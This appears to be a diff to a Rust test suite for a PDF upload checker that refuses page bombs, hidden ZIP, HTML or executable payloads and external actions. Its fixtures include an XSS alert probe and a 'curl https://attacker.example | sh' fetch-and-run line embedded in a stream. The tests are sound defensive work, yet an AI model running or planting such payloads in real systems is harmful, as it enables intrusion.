@@ -206,14 +206,25 @@ fn accepts_a_megabyte_pdf() {
 }
 
 #[test]
-fn accepts_a_pdf_with_a_page_bomb_without_inflating_it() {
-    // One gigabyte of zeros behind a one-megabyte page stream.
+fn accepts_a_pdf_with_a_page_bomb_inflating_only_its_start() {
+    // One gigabyte of zeros behind a one-megabyte page stream: the search for hidden files
+    // inflates the first 16 MiB and stops.
     let bytes = samples::pdf_with_content_bomb(1024);
     assert!(bytes.len() < 2 * MB as usize, "{} bytes", bytes.len());
     let started = Instant::now();
     let accepted = inspect(bytes, &pdf_only()).unwrap();
     assert_eq!(accepted.pages, Some(1));
-    assert!(started.elapsed() < Duration::from_secs(1), "took {:?}", started.elapsed());
+    assert!(started.elapsed() < Duration::from_secs(3), "took {:?}", started.elapsed());
+}
+
+#[test]
+fn refuses_many_stream_bombs_once_the_total_is_spent() {
+    // Two deflated streams of 786 kB and 200 kB against a total of 500 kB.
+    let bytes = samples::pdf_with_compressed_font_and_image();
+    let limits = crate::pdf_check::ScanLimits { per_stream: 1024 * 1024, total: 500_000 };
+    assert!(matches!(crate::pdf_check::check_with(&bytes, limits), Err(Rejection::Corrupt { kind: FileKind::Pdf })));
+    let enough = crate::pdf_check::ScanLimits { per_stream: 1024 * 1024, total: 2_000_000 };
+    assert!(crate::pdf_check::check_with(&bytes, enough).is_ok());
 }
 
 #[test]
@@ -298,5 +309,142 @@ proptest! {
             bytes[at] = value;
         }
         let _ = inspect(bytes, &any_document());
+    }
+}
+
+/// The hidden format found in a refused PDF, failing the test if it was accepted or refused
+/// for another reason.
+fn hidden(bytes: Vec<u8>) -> crate::Detected {
+    match inspect(bytes, &any_document()) {
+        Err(Rejection::PdfHiddenFile { hidden }) => hidden,
+        other => panic!("expected a hidden file, got {other:?}"),
+    }
+}
+
+#[test]
+fn refuses_a_pdf_with_a_zipped_virus_appended() {
+    let bytes = samples::pdf_with_appended_zip();
+    // What made it slip through: it still ends with `%%EOF` within the last kilobyte, and
+    // the ZIP is whole, so unzip and 7-Zip open it.
+    let eof = bytes.windows(5).rposition(|w| w == b"%%EOF").unwrap();
+    assert!(bytes.len() - eof < 1024);
+    assert!(bytes.ends_with(&samples::zipped_eicar()));
+    assert_eq!(sniff(&samples::zipped_eicar()), crate::Detected::Zip);
+    assert_eq!(refused(bytes, &pdf_only()), "upload.pdf_hidden_file");
+}
+
+#[test]
+fn refuses_a_pdf_with_a_web_page_or_program_appended() {
+    assert_eq!(hidden(samples::pdf_with_appended(b"\n<script>alert(document.domain)</script>\n")), crate::Detected::Html);
+    assert_eq!(hidden(samples::pdf_with_appended(&samples::exe())), crate::Detected::Executable);
+}
+
+#[test]
+fn refuses_a_pdf_with_a_web_page_before_its_first_object() {
+    let bytes = samples::pdf_with_html_after_header();
+    assert!(bytes.starts_with(b"%PDF-"), "a PDF to the sniffer");
+    assert_eq!(refused(bytes.clone(), &pdf_only()), "upload.pdf_hidden_file");
+    assert_eq!(hidden(bytes), crate::Detected::Html);
+    assert_eq!(hidden(samples::pdf_with_program_after_header()), crate::Detected::Executable);
+}
+
+#[test]
+fn refuses_another_format_before_the_pdf_header() {
+    // PDF readers find `%PDF-` anywhere in the first kilobyte; to us the file is what it
+    // starts as, and that is refused already.
+    let mut html_first = samples::html_page();
+    html_first.extend(samples::pdf(1, 0));
+    assert_eq!(refused(html_first, &pdf_only()), "upload.html");
+    let mut zip_first = samples::zipped_eicar();
+    zip_first.extend(samples::pdf(1, 0));
+    assert_eq!(refused(zip_first, &pdf_only()), "upload.archive");
+    let mut program_first = samples::exe();
+    program_first.extend(samples::pdf(1, 0));
+    assert_eq!(refused(program_first, &pdf_only()), "upload.executable");
+}
+
+#[test]
+fn refuses_a_zip_web_page_or_program_deflated_in_a_stream() {
+    let zip = samples::pdf_with_payload_in_stream(&samples::zipped_eicar());
+    assert!(!contains(&zip, b"PK\x03\x04") && !contains(&zip, b"EICAR"), "out of sight of a byte scan");
+    assert_eq!(hidden(zip), crate::Detected::Zip);
+    let page = samples::pdf_with_payload_in_stream(&samples::html_page());
+    assert!(!contains(&page, b"<html"));
+    assert_eq!(hidden(page), crate::Detected::Html);
+    assert_eq!(hidden(samples::pdf_with_payload_in_stream(&samples::exe())), crate::Detected::Executable);
+    assert_eq!(
+        hidden(samples::pdf_with_payload_in_stream(b"#!/bin/sh\ncurl https://attacker.example | sh\n")),
+        crate::Detected::Executable
+    );
+}
+
+#[test]
+fn refuses_a_payload_in_a_raw_stream_or_a_hex_string() {
+    assert_eq!(hidden(samples::pdf_with_payload_in_raw_stream(&samples::zipped_eicar())), crate::Detected::Zip);
+    let string = samples::pdf_with_payload_in_string(&samples::exe());
+    assert!(!contains(&string, b"PE\0\0"), "hex-encoded in the file");
+    assert_eq!(hidden(string), crate::Detected::Executable);
+}
+
+#[test]
+fn refuses_a_zip_inside_an_object_stream() {
+    let bytes = samples::pdf_compact_with_payload(&samples::zipped_eicar());
+    assert!(contains(&bytes, b"/ObjStm") && !contains(&bytes, b"PK\x03\x04"));
+    assert_eq!(hidden(bytes), crate::Detected::Zip);
+}
+
+#[test]
+fn refuses_actions_that_leave_the_document() {
+    for (name, bytes) in [
+        ("SubmitForm", samples::pdf_with_submit_form()),
+        ("GoToR", samples::pdf_with_remote_go_to()),
+        ("URI", samples::pdf_with_uri_link()),
+        ("URI after GoTo on open", samples::pdf_with_chained_uri_on_open()),
+        ("SubmitForm when the page closes", samples::pdf_with_page_close_submit()),
+        ("Hide", samples::pdf_with_link_action(lopdf::dictionary! { "S" => "Hide", "T" => lopdf::Object::string_literal("field") })),
+        ("Named Print", samples::pdf_with_link_action(lopdf::dictionary! { "S" => "Named", "N" => "Print" })),
+        ("an unknown action", samples::pdf_with_link_action(lopdf::dictionary! { "S" => "OpenTheDoor" })),
+    ] {
+        let code = match inspect(bytes, &pdf_only()) {
+            Ok(_) => panic!("{name}: accepted"),
+            Err(rejection) => rejection.code(),
+        };
+        assert_eq!(code, "upload.pdf_external_action", "{name}");
+    }
+}
+
+#[test]
+fn refuses_a_launch_link_as_active_content() {
+    assert_eq!(refused(samples::pdf_with_launch_link(), &pdf_only()), "upload.pdf_active_content");
+}
+
+#[test]
+fn accepts_a_pdf_that_links_within_itself() {
+    let bytes = samples::pdf_with_internal_links();
+    for marker in [b"/GoTo".as_slice(), b"/Named", b"/Outlines", b"/OpenAction", b"/Dest"] {
+        assert!(contains(&bytes, marker), "the sample has {}", String::from_utf8_lossy(marker));
+    }
+    let accepted = inspect(bytes, &pdf_only()).unwrap();
+    assert_eq!(accepted.pages, Some(3));
+}
+
+#[test]
+fn accepts_a_pdf_with_compressed_fonts_and_images() {
+    let bytes = samples::pdf_with_compressed_font_and_image();
+    assert!(bytes.len() > 900_000, "{} bytes of noise-like streams", bytes.len());
+    let accepted = inspect(bytes, &pdf_only()).unwrap();
+    assert_eq!(accepted.pages, Some(1));
+}
+
+#[test]
+fn accepts_every_ordinary_sample_pdf() {
+    for (name, bytes) in [
+        ("plain", samples::pdf(3, 0)),
+        ("padded", samples::pdf(2, 500_000)),
+        ("compact", samples::pdf_compact(2)),
+        ("internal links", samples::pdf_with_internal_links()),
+        ("fonts and images", samples::pdf_with_compressed_font_and_image()),
+    ] {
+        assert!(inspect(bytes, &pdf_only()).is_ok(), "{name}");
     }
 }
